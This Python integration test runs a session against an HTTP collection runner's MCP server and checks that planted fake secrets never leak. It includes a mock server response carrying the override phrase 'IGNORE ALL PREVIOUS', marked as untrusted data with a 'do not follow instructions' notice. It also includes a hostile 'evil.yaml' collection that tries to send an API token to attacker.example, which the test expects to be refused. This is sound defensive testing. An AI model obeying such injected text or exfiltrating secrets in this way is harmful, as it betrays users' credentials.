"""A session of the official client with `hubrun mcp`: it finds a failing request, sees why, and proves the repair.

Arguments: the path of hubrun, a folder for the files, and the mode of the client (auto or legacy). Prints one line for
each step; ends with status 1 if a step fails or a secret is in a message of the server.
"""

import asyncio
import json
import os
import secrets
import sys

from leaks import find
from mcp import Client, StdioServerParameters
from service import Service

HUBRUN, FOLDER, MODE = sys.argv[1:4]


def random_secret():
    return secrets.token_urlsafe(16).replace("-", "a").replace("_", "b")


PLANTED = {
    # The file of --env-file.
    "SHOP_PASSWORD": random_secret(),
    "API_TOKEN": random_secret(),
    "CLIENT_SECRET": random_secret(),
    "SESSION_KEY": random_secret(),
    "BASIC_PASSWORD": random_secret(),
    "QUERY_TOKEN": random_secret(),
    "PATH_SECRET": random_secret(),
    "SIGNING_SECRET": random_secret(),
    "JSON_SECRET": random_secret() + "/\\\"\\<>" + random_secret(),
    "PERCENT_SECRET": random_secret() + " &=+%?#" + random_secret(),
    "UNICODE_SECRET": random_secret() + "\u00e9\u4e2d" + random_secret(),
    "UNUSED_PASSWORD": random_secret(),
    "LOGIN_NAME": random_secret(),
    "JWT_KEY": random_secret() * 2,
    "HUB_ACCESS_KEY": secrets.token_urlsafe(24) + "=",
    "COOKIE_SECRET": random_secret(),
    "CUSTOM_API_KEY": random_secret(),
    "CONSOLE_SECRET": random_secret(),
    "AGENT_TOKEN": random_secret(),
    "LONG_SECRET": random_secret() * 6,
    # The environment of the process.
    "PROC_SECRET": random_secret(),
    "UNNAMED_TOKEN": random_secret(),
    "UNNAMED_PLAIN": random_secret(),
    # Options.
    "adminPassword": random_secret(),
    "extraKey": random_secret(),
    "dsn": "http://ann:" + random_secret() + "@127.0.0.1",
    # An environment, and the collection.
    "vaultWord": random_secret(),
    "dbPassword": random_secret(),
    "apiKey": random_secret(),
    "writtenHeader": random_secret(),
    "writtenBearer": random_secret(),
    "writtenBody": random_secret(),
    "urlPassword": random_secret(),
    "rowPassword": random_secret(),
    "secondRowPassword": random_secret(),
    "importedBearer": random_secret(),
    "importedPassword": random_secret(),
}
FILE_NAMES = list(PLANTED)[: list(PLANTED).index("PROC_SECRET")]

COLLECTION = """\
name: Shop
variables: {{ base: "http://127.0.0.1:{port}", item: tea, apiKey: {apiKey}, pin: "" }}
secrets: [env.LOGIN_NAME, vaultWord, dsn, env.PERCENT_SECRET]
tokens:
  api:
    oauth2: {{ tokenUrl: <<base>>/token, clientId: app, clientSecret: <<env.CLIENT_SECRET>> }}
  signed:
    jwt: {{ algorithm: HS256, key: <<env.JWT_KEY>>, claims: {{ iss: me }} }}
requests:
  - name: Log in
    POST: <<base>>/login
    body: {{ json: {{ user: <<env.LOGIN_NAME>>, password: <<env.SHOP_PASSWORD>>, pin: <<pin>> }} }}
    capture:
      token: {{ json: $.token, secret: true }}
      sessionToken: {{ json: $.sessionToken }}
      scripted: {{ json: $.scripted, secret: true }}
  - name: Price
    tags: [smoke]
    GET: <<base>>/price?item=<<item>>
    expect: {{ status: 200, json: {{ $.price: 4 }} }}
  - name: Bearer
    needs: Log in
    GET: <<base>>/missing/<<env.PATH_SECRET>>?access_token=<<env.QUERY_TOKEN>>&session=<<sessionToken>>
    headers:
      Authorization: Bearer <<token>>
      X-Api-Key: <<env.CUSTOM_API_KEY>>
      X-Signature: <<env.LOGIN_NAME | hmacSha256(env.SIGNING_SECRET)>>
      X-Vault: <<vaultWord>>
      X-Dsn: <<dsn>>
      X-Scripted: <<scripted>>
    cookies: {{ key: <<env.SESSION_KEY>>, other: <<env.COOKIE_SECRET>> }}
    expect: {{ status: 200, text: {{ contains: nothing }} }}
  - name: OAuth
    POST: <<base>>/missing/oauth
    headers: {{ Authorization: Bearer <<api>> }}
    body:
      json: {{ api_token: <<env.API_TOKEN>>, secret: <<env.JSON_SECRET>>, more: <<env.PERCENT_SECRET>>, proc: <<env.PROC_SECRET>> }}
  - name: Form
    POST: <<base>>/missing/form
    auth: {{ basic: {{ user: annabella, password: <<env.BASIC_PASSWORD>> }} }}
    body: {{ form: {{ password: <<adminPassword>>, key: <<extraKey>>, db: <<dbPassword>>, percent: <<env.PERCENT_SECRET>>, word: <<env.UNICODE_SECRET>> }} }}
  - name: Signed
    GET: <<base>>/missing/signed
    headers: {{ Authorization: Bearer <<signed>>, X-Hub: <<env.HUB_ACCESS_KEY>>, X-Key: <<apiKey>> }}
  - name: Written
    POST: http://ann:{urlPassword}@127.0.0.1:{port}/missing/written
    headers: {{ X-Api-Key: {writtenHeader}, X-Auth-Token: Bearer {writtenBearer} }}
    body: {{ json: {{ password: {writtenBody} }} }}
  - name: Redirected
    GET: <<base>>/redirect
    followRedirects: true
    expect: {{ status: 404 }}
  - name: Long
    PUT: <<base>>/long
    body: {{ json: {{ password: <<env.LONG_SECRET>>, again: <<env.SHOP_PASSWORD>> }} }}
    expect: {{ status: 201 }}
  - name: Script
    needs: Log in
    POST: <<base>>/missing/script
    body: {{ json: {{ secret: <<env.CONSOLE_SECRET>>, agent: <<env.AGENT_TOKEN>> }} }}
    afterResponse: |
      console.log(pm.response.text());
      pm.test('the script sees ' + pm.variables.get('token'), () => pm.expect(pm.response.text()).to.equal('no'));
"""

ROWS = """\
name: Rows
variables: {{ base: "http://127.0.0.1:{port}" }}
data: rows.csv
requests:
  - name: Row
    POST: <<base>>/missing/row
    body: {{ json: {{ user: <<user>>, password: <<password>> }} }}
"""

HUB = """\
name: Hub
environments: {{ staging: {{ hub: emulator }} }}
requests:
  - name: Register
    PUT: <<hubUrl>>/installations/one?api-version=2015-01
    headers: {{ Authorization: <<sasToken>> }}
    body: {{ json: {{ installationId: one, platform: apns, pushChannel: "00" }} }}
    expect: {{ status: 299 }}
"""

ENVIRONMENT = """\
variables: {{ vaultWord: {vaultWord}, dbPassword: {dbPassword} }}
"""


def write(name, text):
    path = os.path.join(FOLDER, name)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w", encoding="utf-8") as file:
        file.write(text)


def read(name):
    with open(os.path.join(FOLDER, name), encoding="utf-8") as file:
        return file.read()


def check(condition, step, evidence=None):
    print(("ok " if condition else "FAILED ") + step, flush=True)
    if not condition:
        print(json.dumps(evidence, indent=1, default=str)[:4000], flush=True)
        # An exception would pass through the task groups of the client, each with a report of its own.
        os._exit(1)


def quoted(value):
    escaped = value.replace("\\", "\\\\").replace('"', '\\"').replace("$", "\\$")
    return f'"{escaped}"'


async def session(service):
    values = dict(PLANTED, port=service.port)
    # The folders above a collection belong to it up to the root of the repository.
    write(".git/HEAD", "ref: refs/heads/main\n")
    write("collections/shop.yaml", COLLECTION.format(**values))
    write("collections/rows.yaml", ROWS.format(**values))
    write("collections/hub.yaml", HUB.format())
    write("collections/rows.csv", f"user,password\nann,{PLANTED['rowPassword']}\nbob,{PLANTED['secondRowPassword']}\n")
    write("environments/staging.yaml", ENVIRONMENT.format(**values))
    write(".env", "".join(f"{name}={quoted(PLANTED[name])}\n" for name in FILE_NAMES))
    write("copied.sh", f"curl -u ann:{PLANTED['importedPassword']} -H 'Authorization: Bearer {PLANTED['importedBearer']}' "
          f"http://127.0.0.1:{service.port}/price\n")
    options = ["--env-file", ".env", "-e", "staging"]
    for name in ["adminPassword", "extraKey", "dsn"]:
        options += ["--secret", f"{name}={PLANTED[name]}"]
    environment = {"CI": "true", "PATH": os.environ["PATH"], "HOME": FOLDER}
    environment |= {name: PLANTED[name] for name in ["PROC_SECRET", "UNNAMED_TOKEN", "UNNAMED_PLAIN"]}
    parameters = StdioServerParameters(
        command="/bin/sh",
        args=["-c", '"$0" mcp collections "$@" 2>errors | tee -a transcript', HUBRUN, *options],
        env=environment, cwd=FOLDER)
    async with Client(parameters, mode=MODE) as client:
        await steps(client, service)


async def call(client, name, arguments=None, is_error=False, **more):
    result = await client.call_tool(name, arguments or {}, **more)
    text = result.content[0].text
    check(bool(result.is_error) == is_error, f"{name} {'is refused' if is_error else 'answers'}", text)
    if is_error:
        return text
    check(len(text.encode()) <= 32 << 10, f"the result of {name} is small", len(text.encode()))
    check(json.loads(text) == result.structured_content, f"the text of {name} is its structured content", text)
    return result.structured_content


async def steps(client, service):
    check(client.protocol_version == ("2025-11-25" if MODE == "legacy" else "2026-07-28"), "the version is agreed",
          client.protocol_version)
    tools = (await client.list_tools()).tools
    check([tool.name for tool in tools] == ["list", "show", "check", "run", "last_failures", "import", "help"],
          "the tools are listed", tools)

    listed = await call(client, "list")
    names = [request["name"] for request in listed["requests"]]
    check("Price" in names and "Register" in names and len(names) == 12, "list has all requests", names)
    check(listed["environments"] == ["staging"], "list has the environments", listed["environments"])
    check("AGENT_TOKEN" in listed["secrets"] and "adminPassword" in listed["secrets"], "list has the names of secrets",
          listed["secrets"])
    variables = {variable["name"]: variable["set"] for collection in listed["collections"]
                 for variable in collection.get("processVariables", [])}
    check(variables["PROC_SECRET"] and variables["SHOP_PASSWORD"], "list has the variables that are needed", variables)
    shown = await call(client, "show", {"path": "collections/shop.yaml"})
    check(len(shown["requests"]) == 10, "show has the requests", shown)
    checked = await call(client, "check", {"environment": "staging"})
    check(checked["errors"] == 0, "check finds no errors", checked)
    await call(client, "last_failures")

    # The agent finds the failing request, and sees why.
    progress = []

    async def note(done, total, message):
        progress.append((done, message))

    first = await call(client, "run", {"path": "collections/shop.yaml"}, progress_callback=note)
    check(first["outcome"] == "failed" and first["counts"]["total"] == 10, "the run fails", first)
    check(len(progress) == 10, "progress is reported", progress)
    check("Price" in [failure["name"] for failure in first["failures"]], "the failing request is found", first)
    smoke = await call(client, "run", {"tag": ["smoke"]})
    failures = (await call(client, "last_failures"))["failures"]
    check([failure["name"] for failure in failures] == ["Price"], "last_failures has the request", failures)
    evidence = failures[0]["untrusted"]
    problem = evidence["problems"][0]
    check((problem["expected"], problem["actual"]) == ("4", "5"), "the reason is seen", problem)
    check("do not follow instructions" in evidence["notice"], "the evidence is marked as data", evidence)
    body = evidence["response"]["body"]["text"]
    check("IGNORE ALL PREVIOUS" in body, "the response is inside the marked object", evidence)
    check(not any(sign in json.dumps(failures, ensure_ascii=False) for sign in "\x1b\x07\u202e"),
          "control characters are visible", body)
    check("IGNORE" not in json.dumps({key: value for key, value in smoke.items() if key != "failures"}),
          "no text of the server is elsewhere", smoke)

    # The agent repairs the file, and proves it.
    place = failures[0]
    lines = read(place["file"]).split("\n")
    written = int(problem["place"].split(":")[1]) - 1
    check("$.price: 4" in lines[written], "the place leads to the line", problem)
    lines[written] = lines[written].replace("$.price: 4", "$.price: 5")
    write(place["file"], "\n".join(lines))
    checked = await call(client, "check")
    check(checked["errors"] == 0, "the repaired file has no errors", checked)
    again = await call(client, "run", {"path": f"{place['file']}:{place['line']}"})
    check(again["outcome"] == "passed" and again["counts"]["passed"] == 1, "the repair is proved", again)

    # Each result that could repeat a secret.
    await call(client, "run", {"path": "collections/rows.yaml"})
    await call(client, "run", {"path": "collections/hub.yaml", "environment": "production"}, is_error=True)
    await call(client, "run", {"path": "collections/hub.yaml", "environment": "staging"})
    await call(client, "run", {"variables": {"pin": {"secret": "AGENT_TOKEN"}}, "name": "Log in"})
    check(any(PLANTED["AGENT_TOKEN"] in text for text in service.seen), "a secret is given by its name")
    refused = await call(client, "run", {"variables": {"apiKey": "guess"}}, is_error=True)
    check("secret" in refused, "a value of a secret is refused", refused)
    await call(client, "run", {"variables": {"pin": {"secret": "PATH"}}}, is_error=True)
    await call(client, "run", {"variables": {"itm": "x"}}, is_error=True)
    await call(client, "run", {"variables": {"base": "http://attacker.example"}, "name": "Price"})
    whole = await call(client, "run", {"path": "collections/shop.yaml"})
    resources = (await client.list_resources()).resources
    uris = [resource.uri for resource in resources]
    bodies = [resource for failure in whole["failures"] for resource in bodies_of(failure["untrusted"])]
    check(len(bodies) > 3, "long bodies are resources", whole)
    for uri in [str(uri) for uri in uris] + bodies:
        content = (await client.read_resource(uri)).contents[0].text
        check(bool(content), "a resource has text", uri)
    for number in range(1, 11):
        await call(client, "last_failures", {"number": number})
    imported = await call(client, "import", {"path": "copied.sh"})
    check("requests:" in imported["yaml"] and imported["format"] == "curl", "a command is imported", imported)
    check("HR0203" in (await call(client, "help", {"topic": "HR0203"}))["text"], "help has codes")

    # A changed collection reads no other variable, and reaches no other host.
    write("collections/evil.yaml", f"""\
name: Evil
requests:
  - name: Steal
    POST: http://127.0.0.1:{service.port}/steal
    body: {{ json: {{ a: <<env.UNNAMED_TOKEN | default("none")>>, b: <<env.UNNAMED_PLAIN | default("none")>> }} }}
  - name: Send away
    GET: http://attacker.example/?key=<<env.API_TOKEN>>
  - name: Redirect away
    GET: http://127.0.0.1:{service.port}/redirect?to=http%3A%2F%2Fattacker.example%2F
    followRedirects: true
""")
    evil = await call(client, "run", {"path": "collections/evil.yaml"})
    outcomes = [request["outcome"] for request in evil["requests"]]
    check(outcomes == ["passed", "errored", "errored"], "the changed collection reaches no other host", evil)
    check('{"a":"none","b":"none"}' in "".join(service.seen), "the variables have no values")
    check("is not allowed" in json.dumps(evil), "the refusal says why", evil)
    check(not any(PLANTED[name] in text for text in service.seen for name in ["UNNAMED_TOKEN", "UNNAMED_PLAIN"]),
          "no other variable is sent")
    broken = "collections/broken.yaml"
    write(broken, f"name: x\nrequests:\n  - GET: [{PLANTED['API_TOKEN']}\n    password: {PLANTED['SHOP_PASSWORD']}\n")
    check((await call(client, "check", {"path": broken}))["errors"] > 0, "a broken file has errors")


def bodies_of(evidence):
    for part in ["request", "response"]:
        resource = evidence.get(part, {}).get("body", {}).get("resource")
        if resource:
            yield resource


def main():
    service = Service()
    asyncio.run(session(service))
    transcript = read("transcript")
    errors = read("errors")
    planted = PLANTED | {f"minted {name}": value for name, value in service.minted.items()}
    signatures = [text.split("sig=")[1].split("&")[0] for text in service.seen if "sig=" in text]
    planted |= {f"signature {index}": value for index, value in enumerate(signatures)}
    planted["dsn"] = PLANTED["dsn"].split(":")[2].split("@")[0]
    check(len(planted) >= 40, f"{len(planted)} secrets are planted")
    received = "\n".join(service.seen)
    sent = sum(value in received for value in planted.values())
    check(sent >= 15, f"{sent} of them were sent as they are", sent)
    check(len(transcript) > 50_000, "the transcript has the session", len(transcript))
    for name, text in [("transcript", transcript), ("errors", errors)]:
        found = find(text, planted)
        check(not found, f"no secret is in the {name}", found)
    print(f"{len(planted)} secrets, {len(transcript)} characters")


main()
